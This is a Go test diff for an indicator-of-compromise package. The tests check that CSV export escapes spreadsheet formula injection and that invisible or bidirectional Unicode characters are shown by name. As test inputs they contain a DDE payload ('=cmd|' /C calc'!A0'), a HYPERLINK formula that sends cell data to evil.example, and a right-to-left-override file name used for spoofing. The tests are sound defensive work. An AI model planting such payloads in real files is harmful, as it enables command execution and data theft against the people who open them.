@@ -3,6 +3,7 @@ package indicator
 import (
 	"bytes"
 	"encoding/csv"
+	"slices"
 	"strings"
 	"testing"
 )
@@ -220,5 +221,119 @@ func FuzzCheck(f *testing.F) {
 			t.Errorf("Defang(%s, %q) = %q, still a working value", typ, v, d)
 		}
 		_ = Key(typ, v)
+		// The briefing prints no character that draws nothing.
+		if w := Visible(d); strings.IndexFunc(w, invisible) >= 0 || (w == d) != (strings.IndexFunc(d, invisible) < 0) {
+			t.Errorf("Visible(%+q) = %+q", d, w)
+		}
+		// The CSV runs no value as a formula and gives each back.
+		recs, err := csv.NewReader(bytes.NewReader(CSV([]Indicator{{Type: typ, Value: v, Note: v}}))).ReadAll()
+		if err != nil || len(recs) != 2 {
+			t.Fatalf("CSV of %q: %v %q", v, err, recs)
+		}
+		for _, field := range recs[1][1:3] {
+			if strings.ContainsRune("=+-@\t\r", rune(field[0])) || CSVValue(field) != strings.ReplaceAll(v, "\r\n", "\n") {
+				t.Errorf("CSV field %q of %q", field, v)
+			}
+		}
 	})
+}
+
+// TestCSVFormulas: which types take a value a spreadsheet would run as a
+// formula (file names and e-mail addresses, of all the types), and the
+// CSV holds each of those values, and such notes, escaped with one
+// apostrophe that a tool drops to get the value back as written.
+func TestCSVFormulas(t *testing.T) {
+	examples := map[Type]string{
+		IPv4: "203.0.113.10", IPv6: "2001:db8::1", CIDR: "203.0.113.0/24", Domain: "evil.example",
+		URL: "https://evil.example/x", Email: "x@evil.example", MD5: strings.Repeat("a", 32), SHA1: strings.Repeat("a", 40),
+		SHA256: strings.Repeat("a", 64), SHA512: strings.Repeat("a", 128), File: "x.exe", Registry: `HKLM\Software`, ASN: "AS64496",
+	}
+	var takes []string
+	for _, typ := range Types {
+		for _, p := range []string{"=", "+", "-", "@", "\t", "\r", "'", "=cmd|' /C calc'!A0", `=HYPERLINK("https://evil.example/?"&A1)`} {
+			if Check(typ, p+examples[typ]) == nil && !slices.Contains(takes, string(typ)) {
+				takes = append(takes, string(typ))
+			}
+		}
+	}
+	if got := strings.Join(takes, ","); got != "email,file" {
+		t.Errorf("types taking a value that starts a formula: %s, want email,file", got)
+	}
+
+	list := []Indicator{
+		{Type: File, Value: `=HYPERLINK("https://evil.example/?"&A1,"invoice")`, Note: "=1+1"},
+		{Type: File, Value: "+cmd.exe", Note: "-> the C2"},
+		{Type: File, Value: "-rf.sh", Note: "@SUM(A1:A2)"},
+		{Type: File, Value: "@invoice.pdf.exe", Note: "\tindented"},
+		{Type: File, Value: "'quoted'.txt", Note: "'quoted'"},
+		{Type: Email, Value: "=x@evil.example", Note: "\nafter a line end"},
+		{Type: Email, Value: "-x@evil.example"},
+		{Type: Email, Value: "+x@evil.example"},
+		{Type: File, Value: "invoice=paid+1.exe", Note: "a note = not a formula"},
+	}
+	recs, err := csv.NewReader(bytes.NewReader(CSV(list))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, in := range list {
+		rec := recs[i+1]
+		for j, want := range []string{in.Value, in.Note} {
+			field := rec[j+1]
+			if field != "" && strings.ContainsRune("=+-@\t\r", rune(field[0])) {
+				t.Errorf("record %d field %d %q starts a formula", i+1, j+2, field)
+			}
+			if CSVValue(field) != want {
+				t.Errorf("record %d field %d %q gives back %q, want %q", i+1, j+2, field, CSVValue(field), want)
+			}
+		}
+	}
+	if CSVField("\rx") != "'\rx" || CSVField("") != "" {
+		t.Errorf("CSVField(CR x) = %q", CSVField("\rx"))
+	}
+	if recs[9][1] != "invoice=paid+1.exe" || recs[9][2] != "a note = not a formula" {
+		t.Errorf("a value that starts no formula is changed: %q", recs[9])
+	}
+	if recs[1][1] != `'=HYPERLINK("https://evil.example/?"&A1,"invoice")` || recs[5][1] != "''quoted'.txt" {
+		t.Errorf("escaped: %q %q", recs[1][1], recs[5][1])
+	}
+}
+
+// TestVisible: every character that draws nothing is named, everything
+// else is left as written. Which types take a value holding one: a
+// bidirectional control in file names, registry keys, URLs and e-mail
+// addresses; in domain names only what UTS #46 maps to nothing.
+func TestVisible(t *testing.T) {
+	examples := map[Type]string{
+		IPv4: "203.0.113.10", IPv6: "2001:db8::1", CIDR: "203.0.113.0/24", Domain: "evil.example",
+		URL: "https://evil.example/x", Email: "xy@evil.example", MD5: strings.Repeat("a", 32), SHA1: strings.Repeat("a", 40),
+		SHA256: strings.Repeat("a", 64), SHA512: strings.Repeat("a", 128), File: "x.exe", Registry: `HKLM\Software`, ASN: "AS64496",
+	}
+	for _, c := range []struct{ r, want string }{{"\u202E", "url,email,file,registry"}, {"\u200B", "domain,url,email,file,registry"}} {
+		var takes []string
+		for _, typ := range Types {
+			v := examples[typ]
+			for i := 1; i < len(v); i++ {
+				if Check(typ, v[:i]+c.r+v[i:]) == nil {
+					takes = append(takes, string(typ))
+					break
+				}
+			}
+		}
+		if got := strings.Join(takes, ","); got != c.want {
+			t.Errorf("types taking %+q: %s, want %s", c.r, got, c.want)
+		}
+	}
+	for _, c := range [][2]string{
+		{"invoice\u202Efdp.exe", "invoice[U+202E]fdp.exe"},
+		{"plain.exe", "plain.exe"},
+		{"請求書.pdf", "請求書.pdf"},
+		{"a\u00ADb\u034Fc\u061Cd\u115Fe", "a[U+00AD]b[U+034F]c[U+061C]d[U+115F]e"},
+		{"x\uFE0Fy\U000E0100z\U000E0041", "x[U+FE0F]y[U+E0100]z[U+E0041]"},
+		{"\u200E\u200F\u202A\u202B\u202C\u202D\u2066\u2067\u2068\u2069", "[U+200E][U+200F][U+202A][U+202B][U+202C][U+202D][U+2066][U+2067][U+2068][U+2069]"},
+		{"tab\tand space", "tab\tand space"},
+	} {
+		if got := Visible(c[0]); got != c[1] {
+			t.Errorf("Visible(%+q) = %q, want %q", c[0], got, c[1])
+		}
+	}
 }
